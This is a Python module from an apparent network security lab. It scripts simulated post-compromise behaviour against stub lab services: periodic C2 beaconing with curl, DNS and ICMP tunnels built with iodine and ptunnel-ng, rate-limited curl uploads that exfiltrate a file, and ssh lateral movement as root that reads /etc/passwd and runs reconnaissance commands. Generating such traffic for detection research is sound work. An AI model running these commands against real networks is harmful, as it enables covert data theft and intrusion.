"""What a host that was taken over does: beacon, tunnels, exfiltration, lateral movement, mining."""

from __future__ import annotations

import sys

from lab.actions.scene import FOLDER
from lab.actions.shells import OPTIONS
from lab.attacks.attack import ICMP, TCP, UDP, Attack, Behaviour, Stage, Target
from lab.command import Command
from lab.services.stubs import COMMAND_PORT, POOL_PORT, TUNNEL_DOMAIN, TUNNEL_PASSWORD

_BEACONS, _BEACON_S = 26, 4.0
_LOOK_UP_PORT = 61_000


def beacon(stage: Stage) -> Attack:
    """26 requests for commands, about every four seconds; every eighth fetches a page of them and looks the name up."""
    target = stage.target("command", COMMAND_PORT)
    resolver = stage.site.running("dns").address
    commands, side = [], []
    for number in range(_BEACONS):
        if number % 8 == 0:
            port = _LOOK_UP_PORT + number
            side.append(Target(address=resolver, port=53, protocol=UDP, source_port=port))
            ask = ("dig", f"@{resolver}", "-b", f"{stage.source.address}#{port}", "+tries=1", "A")
            commands.append(Command(argv=(*ask, f"updates.{stage.site.domain}"), seconds=3))
        what = "task" if number % 8 == 0 else "poll"
        url = f"http://{target.address}:{target.port}/{what}?id={stage.rng.randrange(10**6)}"
        argv = ("curl", "-q", "-s", "-o", "/dev/null", "-m", "4", "-A", "update/1.0", url)
        commands.append(Command(argv=argv, seconds=5, after_s=_BEACON_S * stage.rng.uniform(0.85, 1.15)))
    return Attack(
        label="beacon", source=stage.source, targets=(target,), strands=(tuple(commands),), side_effects=tuple(side)
    )


def dns_tunnel(stage: Stage) -> Attack:
    """iodine, three times 9 seconds, with 40 pings of 300 bytes through it each time."""
    target = stage.target("command", 53, UDP)
    argv = ("iodine", "-f", "-r", "-P", TUNNEL_PASSWORD, target.address, f"{TUNNEL_DOMAIN}.{stage.site.domain}")
    through = ("ping", "-c", "40", "-i", "0.1", "-s", "300", stage.site.tunnel[0])
    tunnel = tuple(Command(argv=argv, seconds=9, after_s=2) for _ in range(3))
    use = tuple(Command(argv=through, seconds=5.5, after_s=5.5) for _ in range(3))
    return Attack(label="dns_tunnel", source=stage.source, targets=(target,), strands=(tunnel, use))


def icmp_tunnel(stage: Stage) -> Attack:
    """ptunnel-ng to two addresses in turn, 9 seconds each, with six pages fetched through it each time."""
    addresses = stage.site.running("command").addresses
    end = ("-l2222", "-r127.0.0.1", f"-R{COMMAND_PORT}")
    fetch = ("curl", "-q", "-s", "-o", "/dev/null", "-m", "3", "http://127.0.0.1:2222/task")
    tunnel = tuple(Command(argv=("ptunnel-ng", f"-p{each}", *end), seconds=9, after_s=2) for each in addresses)
    use = tuple(
        Command(argv=fetch, seconds=4, after_s=4.5 if number % 6 == 0 else 0.5) for number in range(6 * len(addresses))
    )
    targets = tuple(Target(address=each, port=None, protocol=ICMP) for each in addresses)
    return Attack(label="icmp_tunnel", source=stage.source, targets=targets, strands=(tunnel, use))


def exfiltration(stage: Stage) -> Attack:
    """Four uploads of 2.5 MB, at most 1.5 MB/s, over TLS."""
    target = stage.target("command", 443)
    commands = tuple(
        Command(
            argv=(
                "curl", "-q", "-s", "-k", "-m", "14", "-o", "/dev/null", "--limit-rate", "1500k", "-T",
                f"{FOLDER}/bulk.bin", f"https://{target.address}/upload/{stage.rng.randrange(10**6)}.bin",
            ),
            seconds=15,
            after_s=stage.rng.uniform(0.5, 2.0),
        )
        for _ in range(4)
    )  # fmt: skip
    return Attack(label="exfiltration", source=stage.source, targets=(target,), strands=(commands,))


def lateral_movement(stage: Stage) -> Attack:
    """Logs in to five hosts by ssh, one after the other, twice, and looks around for a moment."""
    others = [host for host in stage.site.segment("servers").hosts if host != stage.source]
    desks = [host for host in stage.site.segment("clients").hosts if host.profile == "developer"]
    hosts = [*stage.rng.sample(others, 3), *stage.rng.sample(desks, 2)]
    targets = tuple(Target(address=host.address, port=22, protocol=TCP) for host in hosts)
    look = ("id; uname -a; ls /root; cat /etc/passwd", "ps ax; ip a; cat /etc/hosts")
    commands = tuple(
        Command(argv=("ssh", *OPTIONS, f"root@{target.address}", words), seconds=8, after_s=stage.rng.uniform(0.3, 1.2))
        for words in look
        for target in targets
    )
    return Attack(label="lateral_movement", source=stage.source, targets=targets, strands=(commands,), exclusive=False)


def mining(stage: Stage) -> Attack:
    """Three connections to a stub pool, of 30 to 45 s each, with a made-up result now and then; nothing is computed."""
    pool = stage.site.running("command").addresses[1]
    target = Target(address=pool, port=POOL_PORT, protocol=TCP)
    client = (sys.executable, "-m", "lab.attacks.client", stage.site.name, "miner", pool, str(POOL_PORT))
    commands = tuple(Command(argv=(*client, str(stage.rng.randint(30, 45))), seconds=60, after_s=1.0) for _ in range(3))
    return Attack(label="mining", source=stage.source, targets=(target,), strands=(commands,))


INSIDE: dict[str, Behaviour] = {
    "beacon": beacon, "dns_tunnel": dns_tunnel, "icmp_tunnel": icmp_tunnel, "exfiltration": exfiltration,
    "lateral_movement": lateral_movement, "mining": mining,
}  # fmt: skip
